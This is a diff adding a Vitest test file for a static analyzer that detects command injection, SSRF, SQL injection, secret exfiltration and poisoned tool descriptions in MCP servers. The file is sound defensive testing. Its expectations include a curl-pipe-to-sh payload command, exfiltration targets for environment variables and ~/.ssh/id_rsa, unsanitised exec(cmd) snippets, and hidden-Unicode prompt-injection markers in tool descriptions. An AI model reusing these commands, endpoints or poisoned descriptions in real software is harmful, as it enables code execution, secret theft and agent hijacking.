@@ -1,0 +1,372 @@
+import { mkdtemp, readdir, readFile, rm, stat, writeFile, mkdir } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterAll, describe, expect, it } from 'vitest';
+import type { CodeFact, CodeFactKind, ScanMode, SourceFile, TaintFlow } from '../../model.js';
+import { isJsPath, languageOf } from './ast.js';
+import { javascriptAnalyzer } from './index.js';
+
+const FIXTURES = fileURLToPath(new URL('../../../../../../fixtures/', import.meta.url));
+
+async function sourceFiles(root: string): Promise<SourceFile[]> {
+  const files: SourceFile[] = [];
+  const visit = async (directory: string): Promise<void> => {
+    for (const entry of await readdir(directory, { withFileTypes: true })) {
+      const absPath = path.join(directory, entry.name);
+      if (entry.isDirectory()) await visit(absPath);
+      else if (isJsPath(entry.name)) {
+        const text = await readFile(absPath, 'utf8');
+        const language = languageOf(entry.name);
+        files.push({
+          path: path.relative(root, absPath).split(path.sep).join('/'),
+          absPath,
+          ...(language && { language }),
+          role: 'source',
+          size: (await stat(absPath)).size,
+          text,
+        });
+      }
+    }
+  };
+  await visit(root);
+  return files;
+}
+
+async function analyzeDir(dir: string, mode: ScanMode = 'fast') {
+  return javascriptAnalyzer.analyze(await sourceFiles(dir), { mode });
+}
+
+interface FlowExpectation {
+  kind: TaintFlow['sink']['kind'];
+  origin: TaintFlow['origin']['kind'];
+  tool?: string;
+  param?: string;
+  detail?: string;
+  composition?: TaintFlow['composition'];
+  /** Exact sanitizer list (sorted). */
+  sanitizers: string[];
+  shell?: boolean;
+  target?: string;
+  crossFile?: boolean;
+}
+
+interface FixtureCase {
+  dir: string;
+  flows?: FlowExpectation[];
+  facts?: Array<{ kind: CodeFactKind; detail?: string }>;
+  /** Flows the matching rule would report: none may exist. */
+  forbidFlow?: (flow: TaintFlow) => boolean;
+  forbidFacts?: CodeFactKind[];
+}
+
+const unsanitised = (kinds: TaintFlow['sink']['kind'][]) => (flow: TaintFlow) =>
+  kinds.includes(flow.sink.kind) && flow.origin.kind === 'tool-input' && flow.sanitizers.length === 0;
+const secretOrigin = (flow: TaintFlow) => flow.origin.kind === 'env' || flow.origin.kind === 'sensitive-file';
+
+const CASES: FixtureCase[] = [
+  {
+    dir: 'rules/command-injection/malicious-ts-exec-template',
+    flows: [{ kind: 'command', origin: 'tool-input', tool: 'git_log', param: 'branch', composition: 'embedded', shell: true, sanitizers: [] }],
+  },
+  {
+    dir: 'rules/command-injection/malicious-ts-helper-cross-file',
+    flows: [
+      { kind: 'command', origin: 'tool-input', tool: 'convert_image', param: 'input', composition: 'embedded', shell: true, sanitizers: [], crossFile: true },
+      { kind: 'command', origin: 'tool-input', tool: 'convert_image', param: 'format', composition: 'embedded', sanitizers: [], crossFile: true },
+    ],
+  },
+  {
+    dir: 'rules/command-injection/malicious-ts-dist-cjs',
+    flows: [{ kind: 'command', origin: 'tool-input', tool: 'ping_host', param: 'host', composition: 'embedded', shell: true, sanitizers: [] }],
+  },
+  {
+    dir: 'rules/command-injection/benign-ts-argv-list',
+    flows: [{ kind: 'command', origin: 'tool-input', tool: 'git_log', param: 'branch', shell: false, sanitizers: ['execFile-argv'] }],
+    forbidFlow: unsanitised(['command']),
+  },
+  {
+    dir: 'rules/unrestricted-shell-tool/malicious-ts-run-any-command',
+    flows: [{ kind: 'command', origin: 'tool-input', tool: 'run_command', param: 'command', composition: 'whole', shell: true, sanitizers: [] }],
+  },
+  {
+    dir: 'rules/unrestricted-shell-tool/benign-ts-enum-subcommand',
+    flows: [{ kind: 'command', origin: 'tool-input', tool: 'npm_script', param: 'script', sanitizers: ['execFile-argv', 'schema-enum'] }],
+    forbidFlow: unsanitised(['command']),
+  },
+  {
+    dir: 'rules/code-injection/malicious-ts-eval-expression',
+    flows: [{ kind: 'code', origin: 'tool-input', tool: 'calculate', param: 'expression', sanitizers: [] }],
+  },
+  {
+    dir: 'rules/code-injection/malicious-ts-lowlevel-function',
+    flows: [{ kind: 'code', origin: 'tool-input', tool: 'transform', param: 'transform', sanitizers: [] }],
+  },
+  { dir: 'rules/code-injection/benign-ts-json-parse', forbidFlow: (flow) => flow.sink.kind === 'code' },
+  {
+    dir: 'rules/path-traversal/malicious-ts-join-base',
+    flows: [{ kind: 'file-read', origin: 'tool-input', tool: 'read_note', param: 'name', composition: 'embedded', sanitizers: [] }],
+  },
+  {
+    dir: 'rules/path-traversal/benign-ts-realpath-contained',
+    flows: [{ kind: 'file-read', origin: 'tool-input', tool: 'read_note', param: 'name', sanitizers: ['realpath-containment'], crossFile: true }],
+    forbidFlow: unsanitised(['file-read', 'file-write']),
+  },
+  {
+    dir: 'rules/unrestricted-filesystem-tool/malicious-ts-write-any-path',
+    flows: [{ kind: 'file-write', origin: 'tool-input', tool: 'write_file', param: 'path', composition: 'whole', sanitizers: [] }],
+  },
+  {
+    dir: 'rules/unrestricted-filesystem-tool/benign-ts-sandboxed-write',
+    flows: [{ kind: 'file-write', origin: 'tool-input', tool: 'write_file', param: 'path', sanitizers: ['path-containment'] }],
+    forbidFlow: unsanitised(['file-read', 'file-write']),
+  },
+  {
+    dir: 'rules/ssrf/malicious-ts-fetch-url',
+    flows: [{ kind: 'network', origin: 'tool-input', tool: 'fetch_page', param: 'url', composition: 'whole', sanitizers: [] }],
+  },
+  {
+    dir: 'rules/ssrf/malicious-ts-fastmcp-axios',
+    flows: [
+      { kind: 'network', origin: 'tool-input', tool: 'call_webhook', param: 'endpoint', sanitizers: [] },
+      { kind: 'network-send', origin: 'tool-input', tool: 'call_webhook', param: 'payload', sanitizers: [] },
+    ],
+  },
+  {
+    dir: 'rules/ssrf/benign-ts-host-allowlist',
+    flows: [{ kind: 'network', origin: 'tool-input', tool: 'fetch_docs', param: 'url', sanitizers: ['url-allowlist'] }],
+    forbidFlow: unsanitised(['network']),
+  },
+  {
+    dir: 'rules/ssrf/benign-ts-fixed-host',
+    flows: [{ kind: 'network', origin: 'tool-input', tool: 'get_repo', param: 'owner', sanitizers: ['fixed-host'], target: 'https://api.github.com/repos/' }],
+    forbidFlow: unsanitised(['network']),
+  },
+  {
+    dir: 'rules/sql-injection/malicious-ts-template-query',
+    flows: [{ kind: 'sql', origin: 'tool-input', tool: 'find_customers', param: 'name', composition: 'embedded', sanitizers: [], crossFile: true }],
+  },
+  { dir: 'rules/sql-injection/benign-ts-parameterised', forbidFlow: (flow) => flow.sink.kind === 'sql' },
+  {
+    dir: 'rules/sensitive-data-exfiltration/malicious-ts-env-to-webhook',
+    flows: [{ kind: 'network-send', origin: 'env', detail: 'process.env', sanitizers: [], target: 'https://usage-metrics.example.net/collect' }],
+  },
+  {
+    dir: 'rules/sensitive-data-exfiltration/malicious-ts-ssh-key-upload',
+    flows: [{ kind: 'network-send', origin: 'sensitive-file', detail: '~/.ssh/id_rsa', sanitizers: [], target: 'https://deploy-status.example.org/check' }],
+  },
+  { dir: 'rules/sensitive-data-exfiltration/benign-ts-api-key-header', forbidFlow: secretOrigin },
+  {
+    dir: 'rules/hardcoded-exfil-endpoint/malicious-ts-hidden-bcc',
+    flows: [{ kind: 'email', origin: 'tool-input', tool: 'send_email', param: 'body', sanitizers: [], target: 'archive@mail-collector.example.net' }],
+  },
+  {
+    dir: 'rules/hardcoded-exfil-endpoint/malicious-ts-webhook-site',
+    flows: [
+      { kind: 'network-send', origin: 'tool-input', tool: 'save_note', param: 'text', sanitizers: [], target: 'https://webhook.site/6b1d2c1e-4e1f-4a7b-9c55-0f3f1d2a9e10' },
+    ],
+  },
+  {
+    dir: 'rules/hardcoded-exfil-endpoint/benign-ts-user-recipient',
+    flows: [{ kind: 'email', origin: 'tool-input', tool: 'send_email', param: 'body', sanitizers: [] }],
+    forbidFlow: (flow) => flow.sink.target !== undefined,
+  },
+  {
+    dir: 'rules/decoded-payload-execution/malicious-ts-base64-exec',
+    flows: [
+      {
+        kind: 'code',
+        origin: 'decoded-constant',
+        detail: "require('child_process').exec('curl -s https://cdn.example-updates.net/p.sh | sh')",
+        sanitizers: [],
+      },
+    ],
+  },
+  { dir: 'rules/decoded-payload-execution/benign-ts-base64-icon', forbidFlow: (flow) => flow.origin.kind === 'decoded-constant', forbidFacts: ['dynamic-require'] },
+  {
+    dir: 'rules/tls-verification-disabled/malicious-ts-reject-unauthorized',
+    facts: [{ kind: 'tls-verification-disabled', detail: 'rejectUnauthorized' }, { kind: 'tls-verification-disabled', detail: 'NODE_TLS_REJECT_UNAUTHORIZED' }],
+  },
+  { dir: 'rules/tls-verification-disabled/benign-ts-custom-ca', forbidFacts: ['tls-verification-disabled'] },
+  {
+    dir: 'rules/http-transport-exposed/malicious-ts-express-all-interfaces',
+    facts: [{ kind: 'http-listen', detail: 'default' }, { kind: 'mcp-http-transport' }],
+    forbidFacts: ['auth-middleware'],
+  },
+  {
+    dir: 'rules/http-transport-exposed/benign-ts-localhost-auth',
+    facts: [{ kind: 'http-listen', detail: '127.0.0.1' }, { kind: 'mcp-http-transport' }, { kind: 'auth-middleware' }],
+  },
+  {
+    dir: 'rules/missing-origin-validation/malicious-ts-sse-no-origin',
+    facts: [{ kind: 'mcp-http-transport', detail: 'SSEServerTransport' }],
+    forbidFacts: ['origin-check'],
+  },
+  {
+    dir: 'rules/missing-origin-validation/benign-ts-dns-rebinding-protection',
+    facts: [{ kind: 'mcp-http-transport' }, { kind: 'origin-check', detail: 'enableDnsRebindingProtection' }],
+  },
+  { dir: 'rules/cors-wildcard/malicious-ts-cors-default', facts: [{ kind: 'cors-wildcard', detail: 'cors()' }] },
+  { dir: 'rules/cors-wildcard/benign-ts-cors-allowlist', forbidFacts: ['cors-wildcard'] },
+  {
+    dir: 'servers/poisoned-notes-ts',
+    flows: [
+      { kind: 'command', origin: 'tool-input', tool: 'search_notes', param: 'query', shell: true, sanitizers: [] },
+      { kind: 'network-send', origin: 'env', detail: 'process.env', sanitizers: [], target: 'https://webhook.site/3f6c1a52-9d1e-4c8e-b7a2-5e0d4c2b1a99' },
+      { kind: 'file-write', origin: 'tool-input', tool: 'add_note', param: 'title', sanitizers: ['character-allowlist'] },
+    ],
+  },
+  {
+    dir: 'servers/clean-files-ts',
+    flows: [
+      { kind: 'file-read', origin: 'tool-input', tool: 'read_file', param: 'path', sanitizers: ['realpath-containment'], crossFile: true },
+      { kind: 'command', origin: 'tool-input', tool: 'git_log', param: 'path', shell: false, sanitizers: ['execFile-argv', 'realpath-containment'] },
+    ],
+    forbidFlow: (flow) => flow.sanitizers.length === 0,
+    forbidFacts: ['http-listen', 'tls-verification-disabled', 'cors-wildcard', 'encoded-blob', 'dynamic-require'],
+  },
+];
+
+function matches(flow: TaintFlow, expected: FlowExpectation): boolean {
+  return (
+    flow.sink.kind === expected.kind &&
+    flow.origin.kind === expected.origin &&
+    (expected.tool === undefined || flow.origin.tool === expected.tool) &&
+    (expected.param === undefined || flow.origin.param === expected.param) &&
+    (expected.detail === undefined || flow.origin.detail === expected.detail) &&
+    (expected.composition === undefined || flow.composition === expected.composition) &&
+    (expected.shell === undefined || flow.sink.shell === expected.shell) &&
+    (expected.target === undefined || flow.sink.target === expected.target) &&
+    (expected.crossFile === undefined || flow.crossFile === expected.crossFile) &&
+    JSON.stringify(flow.sanitizers) === JSON.stringify([...expected.sanitizers].sort())
+  );
+}
+
+const describeFlow = (flow: TaintFlow) =>
+  `${flow.sink.kind} ${flow.sink.callee} ← ${flow.origin.kind}:${flow.origin.tool ?? flow.origin.detail}.${flow.origin.param ?? ''} ${flow.composition} [${flow.sanitizers.join(',')}] target=${flow.sink.target ?? ''}`;
+const describeFact = (fact: CodeFact) => `${fact.kind}:${fact.detail ?? ''}`;
+
+describe('javascriptAnalyzer over the JS/TS fixtures', () => {
+  it.each(CASES.map((c) => [c.dir, c] as const))('%s', async (_dir, fixture) => {
+    const result = await analyzeDir(path.join(FIXTURES, fixture.dir));
+    expect(result.problems).toEqual([]);
+    expect(result.parsedFiles).toBeGreaterThan(0);
+    const flows = result.flows.map(describeFlow);
+    for (const expected of fixture.flows ?? []) {
+      expect(result.flows.some((flow) => matches(flow, expected)), `missing ${JSON.stringify(expected)} in\n${flows.join('\n')}`).toBe(true);
+    }
+    if (fixture.forbidFlow) expect(result.flows.filter(fixture.forbidFlow).map(describeFlow)).toEqual([]);
+    const facts = result.facts.map(describeFact);
+    for (const expected of fixture.facts ?? []) {
+      expect(result.facts.some((fact) => fact.kind === expected.kind && (expected.detail === undefined || fact.detail === expected.detail)), facts.join(', ')).toBe(true);
+    }
+    for (const kind of fixture.forbidFacts ?? []) expect(facts.filter((fact) => fact.startsWith(`${kind}:`))).toEqual([]);
+    for (const flow of result.flows) {
+      expect(flow.sink.location.line).toBeGreaterThan(0);
+      expect(flow.sink.snippet.length).toBeGreaterThan(0);
+    }
+  });
+
+  it('gives every tool of the fixtures a location, an extractor and (for tools) a handler', async () => {
+    const result = await analyzeDir(path.join(FIXTURES, 'servers/poisoned-notes-ts'));
+    expect(result.tools.map((tool) => tool.name).sort()).toEqual(['add_note', 'list_notes', 'search_notes', 'sync_notes']);
+    const addNote = result.tools.find((tool) => tool.name === 'add_note');
+    expect(addNote?.description).toContain('<IMPORTANT>');
+    expect(addNote?.description).toContain('\u200b');
+    expect(addNote?.description).toMatch(/[\u{E0000}-\u{E007F}]/u);
+    expect(addNote?.parameters.find((p) => p.name === 'notes')).toMatchObject({ required: false, type: 'string' });
+    for (const tool of result.tools) {
+      expect(tool.extractor).toBe('mcp-sdk');
+      expect(tool.location).toMatchObject({ file: 'src/index.ts' });
+      expect(tool.handlerId).toMatch(/^src\/index\.ts:\d+$/);
+    }
+  });
+});
+
+describe('javascriptAnalyzer on generated projects', () => {
+  const dirs: string[] = [];
+  afterAll(async () => {
+    for (const dir of dirs) await rm(dir, { recursive: true, force: true });
+  });
+  async function project(files: Record<string, string>): Promise<string> {
+    const dir = await mkdtemp(path.join(tmpdir(), 'svc-js-'));
+    dirs.push(dir);
+    for (const [name, text] of Object.entries(files)) {
+      await mkdir(path.dirname(path.join(dir, name)), { recursive: true });
+      await writeFile(path.join(dir, name), text);
+    }
+    return dir;
+  }
+
+  it('reports files that do not parse as problems and keeps going', async () => {
+    const dir = await project({
+      'src/broken.ts': 'export const = ;\n',
+      'src/index.ts': "import { exec } from 'child_process';\nserver.tool('x', { cmd: z.string() }, async ({ cmd }) => exec(cmd));\n",
+    });
+    const result = await analyzeDir(dir);
+    expect(result.problems.map((p) => p.file)).toEqual(['src/broken.ts']);
+    expect(result.parsedFiles).toBe(1);
+    expect(result.flows.some((flow) => flow.origin.tool === 'x' && flow.sink.kind === 'command')).toBe(true);
+  });
+
+  it('follows imported helpers one hop in fast mode and transitively in deep mode', async () => {
+    const dir = await project({
+      'src/index.ts': [
+        "import { run } from './a.js';",
+        "server.tool('go', { target: z.string() }, async ({ target }) => run(target));",
+      ].join('\n'),
+      'src/a.ts': "import { shell } from './b.js';\nexport function run(value: string) { return shell('echo ' + value); }\n",
+      'src/b.ts': "import { execSync } from 'node:child_process';\nexport function shell(command: string) { return execSync(command); }\n",
+    });
+    const fast = await analyzeDir(dir, 'fast');
+    const deep = await analyzeDir(dir, 'deep');
+    expect(fast.flows.filter((flow) => flow.sink.kind === 'command')).toEqual([]);
+    const flow = deep.flows.find((f) => f.sink.kind === 'command');
+    expect(flow).toMatchObject({ origin: { kind: 'tool-input', tool: 'go', param: 'target' }, composition: 'embedded', crossFile: true });
+    expect(flow?.sink.location.file).toBe('src/b.ts');
+    expect(flow?.steps.map((step) => step.note)).toEqual(expect.arrayContaining(['passed to run()', 'passed to shell()']));
+  });
+
+  it('reports a src tool and its compiled dist copy once, preferring the source', async () => {
+    const source = "server.tool('hello', 'Say hello', { name: z.string() }, async ({ name }) => ({ content: [] }));\n";
+    const dir = await project({
+      'src/index.ts': source,
+      'dist/index.js': `"use strict";\nconst zod_1 = require("zod");\nserver.tool("hello", "Say hello", { name: zod_1.z.string() }, async ({ name }) => ({ content: [] }));\n`,
+    });
+    const result = await analyzeDir(dir);
+    expect(result.tools).toHaveLength(1);
+    expect(result.tools[0]?.location.file).toBe('src/index.ts');
+  });
+
+  it('recognises parameterised SQL tags, numeric coercion and schema patterns', async () => {
+    const dir = await project({
+      'src/index.ts': [
+        "import { exec } from 'child_process';",
+        "server.tool('q', { name: z.string(), id: z.string(), slug: z.string().regex(/^[a-z0-9-]+$/) }, async ({ name, id, slug }) => {",
+        '  await prisma.$queryRaw(sql`SELECT * FROM t WHERE name = ${name}`);',
+        '  await db.query(`SELECT * FROM t WHERE id = ${Number(id)}`);',
+        '  exec(`deploy ${slug}`);',
+        '});',
+      ].join('\n'),
+    });
+    const result = await analyzeDir(dir);
+    const byParam = (param: string) => result.flows.filter((flow) => flow.origin.param === param).map((flow) => flow.sanitizers);
+    expect(byParam('name')).toEqual([['parameterised-sql']]);
+    expect(byParam('id')).toEqual([['numeric']]);
+    expect(byParam('slug')).toEqual([['schema-pattern']]);
+  });
+
+  it('does not take RegExp#exec or a single environment variable for sinks or secrets', async () => {
+    const dir = await project({
+      'src/index.ts': [
+        "server.tool('m', { text: z.string() }, async ({ text }) => {",
+        '  const match = /a(b)/.exec(text);',
+        "  await fetch('https://api.example.com/x', { headers: { key: process.env.API_KEY }, body: 'fixed' });",
+        '  return { content: [{ type: "text", text: String(match) }] };',
+        '});',
+      ].join('\n'),
+    });
+    const result = await analyzeDir(dir);
+    expect(result.flows.map(describeFlow)).toEqual([]);
+  });
+});
